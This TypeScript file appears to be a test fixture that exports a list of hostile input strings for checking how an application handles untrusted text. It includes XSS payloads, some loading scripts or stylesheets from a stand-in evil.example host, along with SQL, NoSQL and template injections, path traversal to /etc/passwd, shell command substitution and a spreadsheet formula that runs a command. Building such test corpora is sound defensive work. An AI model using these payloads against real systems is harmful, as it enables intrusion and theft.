/** What a text would set where it ran. */
export const TRACE = "__hacked";

const RUN = `window.${TRACE}=1`;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type=module>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
];

const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "details open",
  "input autofocus",
  "video src=x",
  "iframe src=x",
  "marquee",
  "a href=#",
  "style",
  "object data=x",
  "button",
];
const EVENTS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onpointerenter",
  "onanimationstart",
];
const HANDLERS = ELEMENTS.flatMap((element) =>
  EVENTS.map((event) => `<${element} ${event}=${RUN}>`),
);

const QUOTED = [`"`, `'`, "`", `">`, `'>`, `" x="`].map(
  (quote) => `${quote} onmouseover=${RUN} ${quote}`,
);

const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\u00a0script:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `<a href="javascript:${RUN}">press me</a>`,
  `<form action="javascript:${RUN}"><button>press me</button></form>`,
  `<object data="javascript:${RUN}"></object>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `[press me](javascript:${RUN})`,
];

const DIRECTIONS = [
  "\u202eDROW SDRAWKCAB",
  "invoice\u202egnp.exe",
  "\u2066isolated\u2069\u2066",
  "\u200f\u200f\u200fright to left",
  "مرحبا بالعالم with English in it",
  "שלום עולם 123",
  "\u202a\u202b\u202c\u202d\u202e",
  "a\u061cb\u200ec",
];

const ZALGO = [3, 12, 40].map((marks) =>
  [..."Zalgo comes"]
    .map((letter) => letter + "\u0301\u0316\u0334\u0350".repeat(marks).slice(0, marks))
    .join(""),
);

const LONG = [
  "x".repeat(255),
  "W".repeat(120),
  "\u{1f600}".repeat(80),
  "–".repeat(200),
  "a_b".repeat(70),
  "漢".repeat(200),
  "https://example.com/" + "path/".repeat(40),
];

const SIGNS = [
  "👩‍👩‍👧‍👦🏳️‍🌈👍🏿🇩🇪",
  "\u{1f9d1}\u{1f3fd}\u200d\u{1f680}",
  "é vs e\u0301",
  "ﷺ﷽",
  "\u200b\u200bzero\u200bwidth",
  "\ufeffmark",
  "\ufffd\ufffd\ufffd",
  "\ud83d\ude00\u20e3\ufe0f",
  "𝕿𝖍𝖊 𝖋𝖆𝖓𝖈𝖞",
  "tab\tand\nline",
  "nul\u0000byte",
  "bell\u0007and\u001bescape",
];

const NOTHING = [
  "null",
  "undefined",
  "NaN",
  "true",
  "[object Object]",
  "0",
  "-1",
  "1e309",
  "None",
  "nil",
  "()",
  "{}",
  "[]",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "   x",
  "...",
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  "${" + RUN + "}",
  "#{" + RUN + "}",
  "<%= " + RUN + " %>",
  "{% " + RUN + " %}",
  "{{7*7}}",
  "$&$1$'$`",
  "%s%n%d%x",
  "%00%0d%0aSet-Cookie:x=1",
  "{0}{1}{name}",
  `@import url(//evil.example/x)`,
  "=cmd|'/c calc'!A1",
];

const QUERIES = [
  `'; DROP TABLE orders; --`,
  `" OR ""="`,
  `1; SELECT pg_sleep(10)`,
  `' UNION SELECT * FROM users --`,
  `{"$gt":""}`,
  `*)(uid=*))(|(uid=*`,
  `../../../../etc/passwd`,
  `; cat /etc/passwd`,
  "$(touch hacked)",
  "`id`",
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `&amp;amp;amp;`,
  `&nbsp;&shy;&zwj;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-`,
];

const STYLES = [
  `<style>*{display:none}</style>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `</style><style>header{display:none}`,
  `<p style="position:fixed;inset:0;background:red">`,
  `<div style="background:url(javascript:${RUN})">`,
  `x" style="position:fixed;inset:0`,
  `expression(${RUN})`,
  `}*{display:none}`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<font size=7 color=red>HUGE`,
  `<h1>${"<div>".repeat(20)}`,
];

/** Texts that somebody may send to see what happens. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...QUOTED,
  ...URLS,
  ...DIRECTIONS,
  ...ZALGO,
  ...LONG,
  ...SIGNS,
  ...NOTHING,
  ...TEMPLATES,
  ...QUERIES,
  ...ENTITIES,
  ...STYLES,
];
